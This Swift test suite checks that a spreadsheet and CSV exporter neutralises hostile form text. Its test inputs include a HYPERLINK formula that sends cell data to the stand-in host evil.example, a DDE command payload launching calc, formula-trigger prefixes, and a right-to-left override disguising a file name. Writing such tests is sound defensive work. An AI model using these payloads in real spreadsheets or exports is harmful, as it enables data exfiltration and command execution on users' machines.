import BekalCore
import BekalExport
import Foundation
import Testing

/// Text from forms that tries to run, hide or overflow comes out of both formats as plain text.
@Suite struct HostileTextTests {
    static let hostile: [String] = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik di sini\")",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "Kue\u{0} kering\u{7}\u{1B}[31m",
        "Warung \u{202E}exe.pdf",
        "\u{FEFF}=cmd|' /C calc'!A0",
        String(repeating: "Catatan panjang. ", count: 2_400).prefix(40_000).description,
    ]

    static func expectSafe(_ text: String, sourceIndex index: Int) {
        #expect(!SpreadsheetText.startsLikeFormula(text), "row \(index)")
        #expect(!text.hasPrefix("\t") && !text.hasPrefix("\r"))
        #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
        #expect(!text.unicodeScalars.contains { [0x202E, 0xFEFF].contains($0.value) })
        #expect(text.utf16.count <= SpreadsheetText.lengthMax)
    }

    @Test(arguments: [true, false])
    func xlsxCellsAreInertText(constantMemory: Bool) throws {
        let scratch = try Scratch()
        let path = scratch.path("hostile.xlsx")
        let workbook = try Workbook(path: path, options: .init(constantMemory: constantMemory))
        let table = Table(title: "Kebutuhan usaha", columns: [.init("kode", "Kode"), .init("catatan", "Catatan")],
                          rows: Self.hostile.enumerated().map { [.text("U-\($0.offset)"), .text($0.element)] })
        try workbook.addTableSheet(table, name: "Usaha", options: .init(wrapText: true))
        try workbook.close()

        let file = try XlsxReader(path: path)
        let cells = try file.cells(sheet: 1)
        for index in Self.hostile.indices {
            let cell = try #require(cells["B\(4 + index)"])
            #expect(cell.formula == nil)
            let text = try #require(cell.text, "row \(index) must be a text cell")
            Self.expectSafe(text, sourceIndex: index)
        }
        #expect(cells["B4"]?.text == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik di sini\")")
        #expect(cells["B5"]?.text == "'+1")
        #expect(cells["B6"]?.text == "'-1")
        #expect(cells["B7"]?.text == "'@SUM(A1:A9)")
        #expect(cells["B10"]?.text == "Kue kering[31m")
        #expect(cells["B11"]?.text == "Warung exe.pdf")
        let long = try #require(cells["B13"]?.text)
        #expect(long.hasSuffix("… [dipotong]") && long.utf16.count <= 32_767)

        let xml = try file.text("xl/worksheets/sheet1.xml")
        #expect(!xml.contains("<f>"), "no formula anywhere in a sheet of text")
        #expect(!xml.contains("\u{202E}") && !xml.contains("_x001B_") && !xml.contains("_x0000_"))
    }

    @Test func csvFieldsAreInertTextToo() {
        let table = Table(title: "Kebutuhan usaha", columns: [.init("kode", "Kode"), .init("catatan", "Catatan"),
                                                              .init("modal", "Modal", .rupiah)],
                          rows: Self.hostile.enumerated().map { [.text("U-\($0.offset)"), .text($0.element), .rupiah(Rupiah(-1_500_000))] })
        let csv = CSVTable.render(table)
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines[0] == "Kode,Catatan,Modal")
        #expect(lines[1] == "U-0,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Klik di sini\"\")\",-1500000")
        #expect(lines[2] == "U-1,'+1,-1500000")
        #expect(lines[3] == "U-2,'-1,-1500000")
        #expect(lines[4] == "U-3,'@SUM(A1:A9),-1500000")
        #expect(lines[5] == "U-4,' =1+1,-1500000")
        #expect(lines[6] == "U-5,\"'\n=1+1\",-1500000")
        #expect(lines[8] == "U-7,Warung exe.pdf,-1500000")
        #expect(csv.hasSuffix("\r\n"))
        for index in Self.hostile.indices {
            Self.expectSafe(SpreadsheetText.safe(Self.hostile[index]), sourceIndex: index)
        }
        #expect(!csv.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" && $0 != "\r" })
    }

    @Test func csvQuotesCommasQuotesAndLineBreaks() {
        let columns: [Table.Column] = [.init("a", "A"), .init("b", "B, dan C"), .init("d", "D", .date)]
        #expect(CSVTable.header(columns) == "A,\"B, dan C\",D\r\n")
        #expect(CSVTable.row([.text("Kue \"Bu Sari\""), .text("baris 1\nbaris 2"), .date(day("2026-11-25"))])
                == "\"Kue \"\"Bu Sari\"\"\",\"baris 1\nbaris 2\",2026-11-25\r\n")
        #expect(CSVTable.row([.empty, .integer(3), .rupiah(Rupiah(1_500_000))]) == ",3,1500000\r\n")
    }

    @Test func theExcelDialectSeparatesWithSemicolonsAndStartsWithAByteOrderMark() throws {
        let table = Table(title: "Usaha", columns: [.init("merek", "Merek; nama"), .init("catatan", "Catatan"),
                                                    .init("modal", "Modal", .rupiah)],
                          rows: [[.text("Kue Sari; Bu Ani"), .text("=1+1, kata"), .rupiah(Rupiah(-1_500_000))]])
        let csv = CSVTable.render(table, dialect: .excel)
        #expect(csv == "\u{FEFF}\"Merek; nama\";Catatan;Modal\r\n\"Kue Sari; Bu Ani\";'=1+1, kata;-1500000\r\n")
        #expect(try CSV.parse(csv, separator: CSVDialect.excel.separator).map(\.fields)
                == [["Merek; nama", "Catatan", "Modal"], ["Kue Sari; Bu Ani", "'=1+1, kata", "-1500000"]])
        #expect(CSVTable.render(table).hasPrefix("Merek; nama,Catatan,Modal\r\n"), "RFC 4180 has no byte-order mark")
    }
}
